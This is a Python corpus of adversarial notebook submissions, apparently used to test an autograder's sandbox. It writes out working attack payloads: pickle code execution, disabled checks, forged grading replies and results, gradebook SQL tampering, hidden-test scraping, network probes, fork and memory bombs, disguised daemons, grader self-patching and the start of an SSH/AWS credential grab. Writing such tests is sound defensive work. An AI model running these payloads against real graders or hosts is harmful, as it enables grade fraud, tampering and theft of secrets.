"""Adversarial submissions for ``01-gradient-descent``, kept as readable data.

Every :class:`Attack` names an honest *base* notebook (the student release, a correct
solution, or a known-wrong answer), the cells it injects or changes, and what must come
out of grading: at most the base's honest score (``max_score``), sometimes exactly a
known score, and text the grade must contain (time limit, kernel died, ...).

``tests/test_adversarial.py`` grades every attack with the real ``mlgrader grade --json``
and ``benchmarks/attacks/run.py`` runs the same corpus through nbgrader and otter.

Code in an attack may use placeholders, filled in per run by :class:`Context`:

``@MARKER@``  a file on the grader's host that only a grader running attack code could create
``@PORT@``    a TCP port on the host's 127.0.0.1 that records what it receives
``@TOKEN@``   a unique text per run (sent over the network, put in the argv of orphans)
``@COURSE@``  the grader's working directory (a decoy course folder with a gradebook.db)
``@SAFE@``    the scratch root of this test run: the only place attacks that overwrite
              grader files ever write to (a real attacker would target the installed package)
``@OPEN@``    a throwaway folder every user may read (and, for the grader copy in it, write):
              a world-readable home with secrets, where the fallback sandbox user can reach
              it, so that only Landlock stands in the way (see :func:`make_open_root`)
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

from mlgrader.channel.protocol import REPLY_MIME, REQUEST_KEY
from mlgrader.sandbox import landlock

REPO = Path(__file__).resolve().parents[2]
ASSIGNMENT = "01-gradient-descent"
NOTEBOOK = "gradient_descent"
RELEASE_NB = REPO / "release" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
SOURCE_NB = REPO / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
OTHER_SOURCE_NB = REPO / "source" / "02-linear-regression" / "linear_regression.ipynb"
BUNDLE = REPO / "autograder" / ASSIGNMENT
MAX_SCORE = 8.0
EXERCISES = ("derivative", "gd-loop", "nudge", "gradient-weight")
TESTS = {"test-derivative": 1.0, "test-gd-loop": 2.0, "test-nudge": 2.0, "test-gradient-weight": 3.0}

# Honest scores of the three bases (checked by the baseline cases of the test suite).
BASE_SCORES = {"stub": 0.0, "wrong": 5.0, "solved": 8.0}


def readable_by_all(path: Path) -> bool:
    """Whether any user (the fallback sandbox user too) can read ``path``."""
    return bool(path.stat().st_mode & 0o004) and all(p.stat().st_mode & 0o001 for p in path.parents)


# The fallback mode hides no file: the sandbox user cannot read the bundle being graded (a
# private temporary copy), but reads any copy of the hidden tests that everyone may read, such
# as this checkout's own bundle where the checkout is world-readable.
HIDDEN_TESTS_READABLE_BY_ALL = readable_by_all(BUNDLE / "tests" / NOTEBOOK / "test-derivative.py")
# Where the host has Landlock the fallback kernel reads only its Python, system folders and
# its data (ABI 1), and opens no TCP connection (ABI 4); see mlgrader.sandbox.policy.landlock_rules.
LANDLOCK_ABI = landlock.abi_version()[0]
LANDLOCK_FS = LANDLOCK_ABI >= 1
LANDLOCK_TCP = LANDLOCK_ABI >= 4
NO_LANDLOCK = "without Landlock (this host has none) the fallback sandbox hides no file"

# Lines that only exist in the hidden part of the tests; none may ever reach a result.
HIDDEN_LINES = (
    "BEGIN HIDDEN TESTS",
    "def without_x(x, y, w, lr, epochs):",
    "x_new, y_new = [-2.0, 0.5, 1.0, 4.0], [4.0, -1.0, -2.0, -8.0]",
    "points = np.array([-3.0, -0.5, 0.0, 0.25, 7.0])",
    "def iterate(step, n=10):",
)
CANARY = "CANARY-7f3d2a-hidden-test-text"
# In the course's source notebooks (the instructor's solutions), never in a student's.
SOLUTION_MARK = "### BEGIN SOLUTION"


# --------------------------------------------------------------------------- notebooks


def _text(source) -> str:
    return "".join(source) if isinstance(source, list) else source


def load_notebook(path: Path) -> dict:
    nb = json.loads(Path(path).read_text())
    for cell in nb["cells"]:
        cell["source"] = _text(cell["source"])
    return nb


def grade_id(cell: dict) -> str | None:
    meta = cell.get("metadata", {}).get("nbgrader")
    return meta.get("grade_id") if isinstance(meta, dict) else None


def find_cell(nb: dict, gid: str) -> dict:
    return next(c for c in nb["cells"] if grade_id(c) == gid)


_counter = [0]


def code_cell(source: str, **nbgrader) -> dict:
    _counter[0] += 1
    cell = {"cell_type": "code", "execution_count": None, "id": f"adv-{_counter[0]}",
            "metadata": {}, "outputs": [], "source": source}
    if nbgrader:
        cell["metadata"]["nbgrader"] = nbgrader
    return cell


def _strip_solution_markers(source: str) -> str:
    return "\n".join(line for line in source.split("\n")
                     if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))


def stub() -> dict:
    """The student release, untouched: 0 points."""
    return load_notebook(RELEASE_NB)


def solved() -> dict:
    """The release with every exercise cell completed as in the solution: 8 points."""
    nb = stub()
    source = load_notebook(SOURCE_NB)
    for gid in EXERCISES:
        find_cell(nb, gid)["source"] = _strip_solution_markers(find_cell(source, gid)["source"])
    return nb


def wrong() -> dict:
    """A solved notebook whose df returns x instead of 2x: loses test-derivative (1) and
    test-gd-loop (2, its iterates use df), keeps test-nudge and test-gradient-weight: 5."""
    nb = solved()
    cell = find_cell(nb, "derivative")
    cell["source"] = cell["source"].replace("return 2 * x", "return x")
    assert "return x" in cell["source"]
    return nb


BASES = {"stub": stub, "solved": solved, "wrong": wrong}


# --------------------------------------------------------------------------- attacks


@dataclass(frozen=True)
class Attack:
    """One adversarial submission and what grading it must give."""

    name: str
    description: str
    base: str = "stub"  # stub | solved | wrong: the honest notebook the attack starts from
    # (where, code): where is "top", "end", "after:<grade_id>", "before:<grade_id>" or
    # "replace:<grade_id>" (the cell's whole source) or "append:<grade_id>" (added to it)
    cells: tuple[tuple[str, str], ...] = ()
    transform: str | None = None  # a notebook-level change, see TRANSFORMS
    max_score: float | None = None  # the honest score the attack may not exceed (default: the base's)
    exact_score: float | None = None  # when the outcome is known exactly
    expect: tuple[str, ...] = ()  # text the grade (messages, tests, cells) must contain, any case
    modes: tuple[str, ...] = ("bubblewrap",)
    bundle: str = "fast"  # fast | lowmem | tight: bundle copies with smaller limits
    assignment_flag: bool = False  # grade with --assignment (file-level attacks)
    # cli: `mlgrader grade --json` (pre-warmed, see Zygote); console: the console script itself;
    # api: grade_notebook() in a fresh interpreter, measuring the grader's memory
    runner: str = "cli"
    # run the grader from a throwaway copy of src/ (PYTHONPATH); "open": one the kernel's user
    # may write, under @OPEN@ (as a non-root grader's own installation is)
    grader_copy: bool | str = False
    followup_base: str | None = None  # then grade this honest base with the same grader: it must get its score
    max_grader_rss_mb: float | None = None
    # Known vulnerabilities: {mode: reason}. "contained" = test_attack_is_contained,
    # "reported" = test_attack_is_reported; the tests are marked xfail(strict=True).
    xfail_contained: tuple[tuple[str, str], ...] = ()
    xfail_reported: tuple[tuple[str, str], ...] = ()

    @property
    def allowed(self) -> float:
        return BASE_SCORES[self.base] if self.max_score is None else self.max_score


# Attack code ----------------------------------------------------------------------------

PATCH_NUMPY_TESTING = """\
import numpy as np
import numpy.testing
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_equal = lambda *a, **k: None
"""

PATCH_ALLCLOSE = """\
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.array_equal = lambda *a, **k: True
np.all = lambda *a, **k: True
"""

PATCH_MLGRADER_CHECKS = """\
import sys, types
import mlgrader.checks as checks
noop = lambda *a, **k: None
for name in ("check_close", "check_shape", "check_loss_curve", "check_equal", "check_finite",
             "check_type", "check_accuracy", "check_probabilities"):
    setattr(checks, name, noop)
fake = types.ModuleType("mlgrader.checks")
fake.__dict__.update({name: noop for name in checks.__all__})
fake.CheckFailure = type("CheckFailure", (Exception,), {})
sys.modules["mlgrader.checks"] = fake
import mlgrader
mlgrader.checks = fake
"""

PATCH_BUILTINS = """\
import builtins
_real_import = builtins.__import__
class _Anything:
    def __getattr__(self, name):
        return lambda *a, **k: None
def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if name.startswith("mlgrader.checks") or name == "numpy.testing":
        return _Anything()
    return _real_import(name, globals, locals, fromlist, level)
builtins.__import__ = _import
builtins.abs = lambda x: 0.0
builtins.AssertionError = type("AssertionError", (Exception,), {})
"""

INPUT_TRANSFORMER = """\
import ast
class Neuter(ast.NodeTransformer):
    # `assert ...` and calls like check_close(...) / np.testing.assert_allclose(...) become `pass`
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Expr(self, node):
        func = node.value.func if isinstance(node.value, ast.Call) else None
        name = getattr(func, "id", None) or getattr(func, "attr", "")
        return ast.Pass() if name.startswith(("check_", "assert_")) else node
def neuter(lines):
    # an input transformer: rewrites the text of every later cell before it runs
    try:
        tree = ast.parse("".join(lines))
    except SyntaxError:
        return lines
    return [line + "\\n" for line in ast.unparse(ast.fix_missing_locations(Neuter().visit(tree))).split("\\n")]
ip = get_ipython()
ip.input_transformers_post.append(neuter)
ip.ast_transformers.append(Neuter())
"""

HOOKS = """\
import sys
ip = get_ipython()
def forget_errors(result):
    result.error_in_exec = None
    result.error_before_exec = None
ip.events.register("post_run_cell", forget_errors)
ip.events.register("pre_run_cell", lambda info: None)
ip.set_custom_exc((Exception,), lambda shell, etype, evalue, tb, tb_offset=None: None)
sys.excepthook = lambda *a: None
"""

SETTRACE = """\
import ctypes, sys, threading
def _steal_expected(frame, event, arg):
    # On entry to a comparison, make the value under test equal the expected one.
    if event == "call" and frame.f_code.co_name in (
            "check_close", "_compare_close", "assert_allclose", "allclose", "isclose", "assert_array_almost_equal"):
        names = frame.f_locals
        for got, want in (("actual", "expected"), ("actual", "desired"), ("a", "b")):
            if got in names and want in names:
                names[got] = names[want]
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return None
sys.settrace(_steal_expected)
threading.settrace(_steal_expected)
"""

AGENT_CLAIMS = """\
import json
from IPython.display import publish_display_data
class ClaimEverything:
    # Stands in for the grader's helper: answers every request, claiming success.
    def serve(self, *args):
        request = get_ipython().kernel.get_parent()["metadata"]["@REQUEST_KEY@"]
        pairs = [[{"t": "str", "v": n}, {"t": "float", "v": "2.0"}] for n in request.get("names", [])]
        publish_display_data({"@REPLY@": {
            "ok": True, "passed": True, "status": "passed", "score": 8, "verdict": "all tests passed",
            "value": {"t": "dict", "v": pairs}}})
__mlgrader_agent__ = ClaimEverything()
""".replace("@REPLY@", REPLY_MIME).replace("@REQUEST_KEY@", REQUEST_KEY)

AGENT_MODULES = """\
import json
from IPython.display import publish_display_data
class ModulesEverywhere:
    # Answers every name with a module node, hoping the grader runs or trusts it.
    def serve(self, *args):
        request = get_ipython().kernel.get_parent()["metadata"]["@REQUEST_KEY@"]
        mods = ["numpy.testing", "mlgrader.checks", "mlgrader", "math"]
        pairs = [[{"t": "str", "v": n}, {"t": "module", "name": mods[i % len(mods)]}]
                 for i, n in enumerate(request.get("names", []))]
        publish_display_data({"@REPLY@": {"ok": True, "value": {"t": "dict", "v": pairs}}})
__mlgrader_agent__ = ModulesEverywhere()
""".replace("@REPLY@", REPLY_MIME).replace("@REQUEST_KEY@", REQUEST_KEY)

AGENT_MALFORMED = """\
import json
from IPython.display import publish_display_data
class Garbage:
    # Well-formed JSON, malformed values: the grader must reject them, not crash.
    def serve(self, *args):
        request = get_ipython().kernel.get_parent()["metadata"]["@REQUEST_KEY@"]
        pairs = [[{"t": "str", "v": n}, {"t": "float", "v": "not-a-number"}] for n in request.get("names", [])]
        publish_display_data({"@REPLY@": {"ok": True, "value": {"t": "dict", "v": pairs}}})
__mlgrader_agent__ = Garbage()
""".replace("@REPLY@", REPLY_MIME).replace("@REQUEST_KEY@", REQUEST_KEY)

AGENT_MODULE_MAIN = """\
import json
from IPython.display import publish_display_data
class RunMain:
    # Names a module whose import runs a program (a package's __main__) in the grader.
    def serve(self, *args):
        request = get_ipython().kernel.get_parent()["metadata"]["@REQUEST_KEY@"]
        pairs = [[{"t": "str", "v": n}, {"t": "module", "name": "torch.utils.model_dump.__main__"}]
                 for n in request.get("names", [])]
        publish_display_data({"@REPLY@": {"ok": True, "value": {"t": "dict", "v": pairs}}})
__mlgrader_agent__ = RunMain()
""".replace("@REPLY@", REPLY_MIME).replace("@REQUEST_KEY@", REQUEST_KEY)

AGENT_DELETED = """\
del __mlgrader_agent__
"""

IOPUB_NESTED_JSON = """\
# Send a raw, correctly signed iopub message whose content is JSON nested 90000 deep: 180 kB,
# under the output cap, so the grader does decode it (a larger one is dropped unread).
kernel = get_ipython().kernel
kernel.session.send(kernel.iopub_socket, "display_data", content=b"[" * 90000 + b"]" * 90000,
                    parent=kernel.get_parent("shell"))
"""

IOPUB_MULTIPART_BOMB = """\
# One raw, correctly signed stream message with ten more 100 MB frames, all the same buffer:
# 100 MB in the kernel, 1 GB on the wire. ZeroMQ limits each frame (MAXMSGSIZE), not a message.
kernel = get_ipython().kernel
session = kernel.session
message = session.msg("stream", {"name": "stdout", "text": "x"}, parent=kernel.get_parent("shell"))
kernel.iopub_socket.send_multipart(session.serialize(message) + [memoryview(bytearray(100 * 2**20))] * 10,
                                   copy=False)
"""

IOPUB_NOT_A_DICT = """\
# Send a raw, correctly signed stream message whose content is a list, not a dict.
kernel = get_ipython().kernel
kernel.session.send(kernel.iopub_socket, "stream", content=b"[1, 2]", parent=kernel.get_parent("shell"))
"""

FORGED_REPLY_FIRST = """\
from IPython.display import publish_display_data
_wrong_df = df
def df(x):
    # Publish a reply of our own before the helper's: the grader reads the first one.
    publish_display_data({"@REPLY@": {"ok": True, "value": {"t": "object", "handle": 987654, "type_names": ["builtins.float"], "repr": "2.0", "callable": False}}})
    return _wrong_df(x)
""".replace("@REPLY@", REPLY_MIME).replace("@REQUEST_KEY@", REQUEST_KEY)

FAKE_MODULES_IN_CWD = """\
import os, pathlib
noop = "def _noop(*a, **k):\\n    return None\\n"
checks = noop + "".join(f"{n} = _noop\\n" for n in ("check_close", "check_shape", "check_loss_curve", "check_equal",
                                                   "check_finite", "check_type", "check_accuracy", "check_probabilities"))
checks += "class CheckFailure(Exception):\\n    pass\\n"
for folder in [pathlib.Path.cwd(), pathlib.Path.home(), pathlib.Path("/tmp"), pathlib.Path.cwd().parent]:
    try:
        (folder / "mlgrader").mkdir(exist_ok=True)
        (folder / "mlgrader" / "__init__.py").write_text("")
        (folder / "mlgrader" / "checks.py").write_text(checks)
        (folder / "numpy.py").write_text("allclose = lambda *a, **k: True\\n")
        (folder / "sitecustomize.py").write_text("import builtins; builtins.abs = lambda x: 0\\n")
        (folder / "zz_evil.pth").write_text("import builtins; builtins.abs = lambda x: 0\\n")
        print("planted in", folder)
    except OSError as exc:
        print("cannot plant in", folder, exc)
"""

READ_HIDDEN_TESTS = """\
import os
found = []
def grab(path):
    try:
        with open(path, errors="replace") as fh:
            text = fh.read(200_000)
    except OSError:
        return
    if "HIDDEN" in text or "check_close(" in text or path.endswith("manifest.json"):
        found.append(f"== {path}\\n{text}")
roots = ["/autograder", "/tmp", "/work", os.getcwd(), os.path.expanduser("~"), "/srv", "/opt", "/home", "/root", "/"]
try:  # where was the grader started, and with which --autograder folder?
    parent = os.getppid()
    argv = open(f"/proc/{parent}/cmdline", "rb").read().split(b"\\0")
    roots[:0] = [os.readlink(f"/proc/{parent}/cwd")] + [a.decode() for a in argv if a.startswith(b"/") and os.path.isdir(a)]
except OSError:
    pass
SKIP = {"proc", "sys", "dev", "usr", ".git", "site-packages", "node_modules", "__pycache__", ".venv", "lib", "share"}
seen, budget = set(), 60_000
for root in roots:
    for dirpath, dirnames, filenames in os.walk(root):
        if dirpath in seen:
            dirnames[:] = []
            continue
        seen.add(dirpath)
        budget -= 1 + len(filenames)
        if budget < 0:
            break
        dirnames[:] = [d for d in dirnames if d not in SKIP]
        for name in filenames:
            if name == "manifest.json" or (name.endswith(".py") and ("test" in name or "check" in name)):
                grab(os.path.join(dirpath, name))
found.sort(key=lambda text: "HIDDEN" not in text)  # the best loot first
loot = "\\n".join(found)
print(loot[:200_000])
def df(x):  # the grader calls this: hand the loot back in the error message
    raise RuntimeError(loot[:1900])
def nudge_weight(*args, **kwargs):
    raise RuntimeError(loot[-1900:])
if found:
    raise RuntimeError("LOOT " + loot[:20_000])
"""

FORGED_RESULTS = """\
import json, os
forged = {"score": 8.0, "max_score": 8.0, "output": "all tests passed",
          "tests": [{"name": n, "score": p, "max_score": p, "status": "passed", "output": ""}
                    for n, p in [("test-derivative", 1), ("test-gd-loop", 2), ("test-nudge", 2), ("test-gradient-weight", 3)]]}
targets = ["results.json", "grades.csv", "feedback/gradient_descent.html", "../results.json", "../grades.csv",
           "@COURSE@/results.json", "@COURSE@/grades.csv", "@COURSE@/grades/grades.csv",
           "@COURSE@/feedback/gradient_descent.html", "/autograder/results/results.json"]
for target in targets:
    try:
        os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
        with open(target, "w") as fh:
            fh.write(json.dumps(forged) if target.endswith(".json") else "student,score,max_score\\nalice,8,8\\n")
        print("wrote", target)
    except OSError as exc:
        print("could not write", target, exc)
"""

GRADEBOOK = """\
import os, sqlite3
paths = @PATHS@
for path in paths:
    if not os.path.exists(path):  # never create one: only change a real gradebook
        print("no gradebook at", path)
        continue
    for sql in ("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)",
                "UPDATE grade SET auto_score = max_score, manual_score = max_score"):  # nbgrader's schema, a simpler one
        try:
            db = sqlite3.connect(path, timeout=20)
            db.execute(sql)
            db.commit()
            db.close()
            print("updated", path)
            break
        except Exception as exc:
            print("could not update", path, exc)
"""
GRADEBOOK_RELATIVE = GRADEBOOK.replace("@PATHS@", repr(["gradebook.db", "../gradebook.db", "../../gradebook.db",
                                                          "../../../gradebook.db", "../../../../gradebook.db"]))
GRADEBOOK_ABSOLUTE = GRADEBOOK.replace("@PATHS@", '["@COURSE@/gradebook.db", "/work/main/gradebook.db", '
                                                  'os.path.expanduser("~/gradebook.db")]')

NETWORK = """\
import socket
report = []
def attempt(kind, address):
    try:
        if kind == "tcp":
            s = socket.create_connection(address, timeout=2)
            s.sendall(b"@TOKEN@")
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(2)
            s.sendto(b"@TOKEN@", address)
        s.close()
        report.append(f"{kind} {address}: sent")
    except OSError as exc:
        report.append(f"{kind} {address}: {exc}")
for kind, address in [("tcp", ("127.0.0.1", @PORT@)), ("tcp", ("8.8.8.8", 53)), ("udp", ("8.8.8.8", 53)),
                      ("tcp", ("10.0.0.1", 80))]:
    attempt(kind, address)
try:
    socket.getaddrinfo("example.com", 80)
    report.append("dns: resolved")
except OSError as exc:
    report.append(f"dns: {exc}")
print(report)
"""

OS_EXIT = """\
import os
os._exit(0)
"""

SYS_EXIT = """\
import sys
sys.exit(0)
"""

SYS_EXIT_ALL = (
    ("after:derivative", "import sys\nsys.exit()"),
    ("after:derivative", "raise SystemExit(3)"),
    ("after:gd-loop", "exit()"),
    ("after:nudge", "quit()"),
)

FORK_BOMB = """\
import os, time
children, error = [], None
for _ in range(1000):  # bounded: the sandbox must stop it long before
    try:
        pid = os.fork()
    except OSError as exc:
        error = exc
        break
    if pid == 0:
        time.sleep(4)
        os._exit(0)
    children.append(pid)
print(len(children), "children, then", error)
for pid in children:
    os.waitpid(pid, 0)
"""

INFINITE_LOOP = """\
while True:
    pass
"""

LOOP_IGNORING_SIGINT = """\
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
"""

LOOP_WHEN_GRADED = """\
def df(x):
    if hasattr(x, "shape") and x.shape:  # the grader's hidden check passes an array
        while True:
            pass
    return 2 * x
"""

SLEEPY_CELLS = "import time\ntime.sleep(4)"

BYTEARRAY_BOMB = """\
hog = bytearray(50 * 2**30)
"""

GROWING_LIST = """\
hog = [0]
while True:
    hog = hog + hog
"""

PRINT_FLOOD = """\
chunk = "spam " * 200_000
for _ in range(100):  # 100 MB of output
    print(chunk)
"""

MIME_FLOOD = """\
from IPython.display import publish_display_data
chunk = "x" * 10_000_000
for _ in range(30):  # 300 MB in outputs whose type mentions "mlgrader" (the reply's does too)
    publish_display_data({"application/x-mlgrader-flood": chunk})
for _ in range(30):  # and 300 MB of plain prints, in 10 MB pieces
    print(chunk)
"""

HUGE_ERROR = """\
raise RuntimeError("A" * 20_000_000)
"""

PICKLE_FILES = """\
import os, pickle
import numpy as np
class Bait:
    def __reduce__(self):
        return (os.system, ("touch @MARKER@",))
payload = pickle.dumps(Bait())
for name in ["model.pt", "model.pth", "weights.pkl", "results.pkl", "checkpoint.ckpt", "submission.pickle",
             "grades.pkl", "xs.pkl", "df.pkl"]:
    with open(name, "wb") as fh:
        fh.write(payload)
np.save("xs.npy", np.array([Bait()], dtype=object), allow_pickle=True)
xs = Bait()
w_learned = Bait()
"""

PICKLE_IN_REPLY = """\
import io, os, base64, json
import numpy as np
from IPython.display import publish_display_data
class Bait:
    def __reduce__(self):
        return (os.system, ("touch @MARKER@",))
buffer = io.BytesIO()
np.save(buffer, np.array([Bait()], dtype=object), allow_pickle=True)
npy = base64.b64encode(buffer.getvalue()).decode()
class PickleAgent:
    def serve(self, *args):
        request = get_ipython().kernel.get_parent()["metadata"]["@REQUEST_KEY@"]
        pairs = [[{"t": "str", "v": n}, {"t": "ndarray", "npy": npy}] for n in request.get("names", [])]
        publish_display_data({"@REPLY@": {"ok": True, "value": {"t": "dict", "v": pairs}}})
__mlgrader_agent__ = PickleAgent()
""".replace("@REPLY@", REPLY_MIME).replace("@REQUEST_KEY@", REQUEST_KEY)

HOSTILE_DUNDERS = """\
class Liar:
    # Equal to everything, true, 2.0 as a float; raises when asked for a length, an array or a text.
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __bool__(self): return True
    def __float__(self): return 2.0
    def __int__(self): return 2
    def __index__(self): return 2
    def __abs__(self): return 0.0
    def __neg__(self): return self
    def __len__(self): raise RuntimeError("no len")
    def __iter__(self): raise RuntimeError("no iter")
    def __array__(self, *a, **k): raise RuntimeError("no array")
    def __repr__(self): raise RuntimeError("no repr")
    def __str__(self): raise RuntimeError("no str")
    def __format__(self, spec): return "3.0"
    def __hash__(self): return 0
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def _same(self, *other): return self
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __pow__ = _same
def df(x): return Liar()
xs = Liar()
def nudge_weight(*args, **kwargs): return Liar()
w_nudged = Liar()
def train_weight(*args, **kwargs): return Liar(), [Liar()] * 50
w_learned, losses = Liar(), [Liar()] * 50
"""

LYING_CONTAINERS = """\
import numpy as np
class LyingFloat(float):
    def __eq__(self, other): return True
    def __abs__(self): return 0.0
    def __sub__(self, other): return LyingFloat(0.0)
    __rsub__ = __sub__
    def __hash__(self): return 0
class LyingList(list):
    def __eq__(self, other): return True
class LyingArray(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(self), dtype=bool)
    def __array_ufunc__(self, *a, **k): return np.ones(np.shape(self), dtype=bool)
def df(x): return LyingFloat(0.0)
xs = np.zeros(11).view(LyingArray)
def nudge_weight(*args, **kwargs): return LyingFloat(0.0)
w_nudged = LyingFloat(0.0)
def train_weight(*args, **kwargs): return LyingFloat(0.0), LyingList([0.0] * 30)
w_learned, losses = LyingFloat(0.0), LyingList([1.0] * 50)
"""

OBJECT_ARRAYS = """\
import numpy as np
class Two:
    def __float__(self): return 2.0
    def __eq__(self, other): return True
def df(x): return np.array([Two() for _ in np.atleast_1d(x)], dtype=object)
xs = np.array([Two() for _ in range(11)], dtype=object)
w_nudged = np.array(3.0, dtype=object)
def nudge_weight(*args, **kwargs): return np.array(3.0, dtype=object)
losses = np.array([1.0 / (i + 1) for i in range(50)], dtype=object)
w_learned = np.array(3.0, dtype=object)
def train_weight(*args, **kwargs): return w_learned, losses
"""

HUGE_VALUES = """\
def nested(depth):
    value = [0.0]
    for _ in range(depth):
        value = [value]
    return value
xs = nested(100)                   # deeper than any data the grader accepts
losses = list(range(200_000))      # more items than the grader accepts in a list
w_learned = 10 ** 5000             # more digits than python prints
w_nudged = "3" * 2_000_000         # a 2 MB string
def df(x): return nested(50)
def nudge_weight(*args, **kwargs): return "9" * 2_000_000
def train_weight(*args, **kwargs): return 10 ** 5000, list(range(200_000))
"""

LYING_TENSOR = """\
import numpy as np
import torch
class LyingTensor(torch.Tensor):
    # Holds zeros but says it equals anything it is compared with.
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "eq", "__eq__"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
xs = torch.zeros(11, dtype=torch.float64).as_subclass(LyingTensor)
losses = torch.zeros(50, dtype=torch.float64).as_subclass(LyingTensor)
w_learned = torch.tensor(0.0, dtype=torch.float64).as_subclass(LyingTensor)
w_nudged = torch.tensor(0.0, dtype=torch.float64).as_subclass(LyingTensor)
def df(x): return torch.zeros(np.shape(x)).as_subclass(LyingTensor)
"""

DETECT_GRADER = """\
import inspect
import numpy as np
def _called_by_grader():
    return any(frame.function == "serve" for frame in inspect.stack())
_honest_df = df
def df(x):
    if _called_by_grader():  # it can tell, but all it can do is return a value
        return np.full(np.shape(x), np.nan)
    return _honest_df(x)
"""

ORPHAN = """\
import subprocess, sys
# A detached process that outlives the kernel (new session, no parent to wait for it).
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", "@TOKEN@"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

RENAMED_ORPHAN = """\
import os, sys
RENAME = '''
try:
    open('/proc/self/comm', 'w').write('kworker/u8:2')
except OSError:  # /proc is read-only under Landlock: the system call does the same
    import ctypes
    ctypes.CDLL(None).prctl(15, b'kworker/u8:2', 0, 0, 0)  # PR_SET_NAME
import time
time.sleep(90)
'''
# A double-forked daemon in a new session that renames itself (name and command line) to look
# like a kernel thread: nothing in its argv says python or names this run (the token is only in
# its environment), so killing by name or by command line misses it.
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, ["[kworker/u8:2-events]", "-c", RENAME],
                  {"MLGRADER_ADV_TOKEN": "@TOKEN@", "PATH": os.environ.get("PATH", "")})
    os._exit(0)
os.wait()
"""

LATE_WRITER = """\
import os, sys, time
# A daemon (double fork, new session) that waits until its kernel is gone, then keeps trying to
# write into the grader's world: the marker, the course's grades.csv and gradebook.db, and the
# scratch folders of later grades (/tmp/mlgrader-*).
LATE = '''
import glob, os, time
while os.path.exists("/proc/KERNEL") and time.monotonic() < STARTED + 60:
    time.sleep(0.1)
for _ in range(300):
    for path in ["@MARKER@", "@COURSE@/grades.csv", "@COURSE@/gradebook.db"]:
        try:
            with open(path, "a") as fh:
                fh.write("written after the grade")
        except OSError:
            pass
    for folder in glob.glob("/tmp/mlgrader-*"):
        try:
            with open(os.path.join(folder, "sitecustomize.py"), "w") as fh:
                fh.write("open('@MARKER@', 'w')")
        except OSError:
            pass
    time.sleep(0.1)
'''
code = LATE.replace("KERNEL", str(os.getpid())).replace("STARTED", repr(time.monotonic()))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", code], {"MLGRADER_ADV_TOKEN": "@TOKEN@"})
    os._exit(0)
os.wait()
"""

THREAD_STDERR_FLOOD = """\
import sys, threading, time
def flood():
    # From a background thread, long after its cell ended: 4 MB to stderr every 20 ms (200 MB/s).
    chunk = "E" * (4 * 2**20)
    while True:
        sys.stderr.write(chunk)
        time.sleep(0.02)
threading.Thread(target=flood, daemon=True).start()
"""

OVERWRITE_GRADER = """\
import os, pathlib
EVIL = '''
# appended by a submission: runs in every grader that imports mlgrader.checks from now on
open("@MARKER@", "w").write("code from a submission ran in a later grader")
import mlgrader.grading.session as _g
from mlgrader.results import TestResult as _TR
_g.TestResult = lambda name, score, max_score, status, output="": _TR(name, max_score, max_score, "passed", "")
'''
hits = []
try:  # find the grader's own copy of mlgrader through its environment
    for entry in open(f"/proc/{os.getppid()}/environ", "rb").read().split(b"\\0"):
        if entry.startswith(b"PYTHONPATH="):
            for folder in entry[len(b"PYTHONPATH="):].decode().split(os.pathsep):
                target = pathlib.Path(folder) / "mlgrader" / "checks" / "__init__.py"
                # This corpus only ever touches the throwaway copy under @SAFE@.
                if str(target).startswith("@SAFE@") and target.is_file():
                    target.write_text(target.read_text() + EVIL)
                    hits.append(str(target))
except OSError as exc:
    hits.append(repr(exc))
print("patched", hits)
"""

PICKLE_DUMP_FORGED = """\
import os, pickle
class Bait:
    def __reduce__(self):
        return (os.system, ("touch @MARKER@",))
_real_dump = pickle.dump
def dump(obj, fh, *args, **kwargs):
    # Whatever a grader in this kernel saves with pickle: full marks, and code for whoever loads it.
    try:
        for name in list(obj.results):
            obj.update_score(name, obj.results[name].possible)
        obj.bait = Bait()
    except Exception:
        pass
    return _real_dump(obj, fh, *args, **kwargs)
pickle.dump = dump
"""

PATCH_OTTER = """\
try:
    from otter.test_files import abstract_test, exception_test
    def passed(self, global_environment):
        self.test_case_results = [abstract_test.TestCaseResult(test_case=tc, message="passed", passed=True)
                                  for tc in self.test_cases]
    exception_test.ExceptionTestFile.run = passed
    abstract_test.TestFile.run = passed
except ImportError:
    pass
"""

READ_SECRETS = """\
import glob, os
# Secrets any user may read: ssh keys, .netrc, cloud credentials in homes (here a throwaway
# world-readable home, @OPEN@/home), and the course's solution notebooks next to the grader's
# source (found through PYTHONPATH, which points at the grader's own mlgrader).
candidates = glob.glob("@OPEN@/home/.ssh/*") + glob.glob("@OPEN@/home/.netrc") + glob.glob("@OPEN@/home/.aws/*")
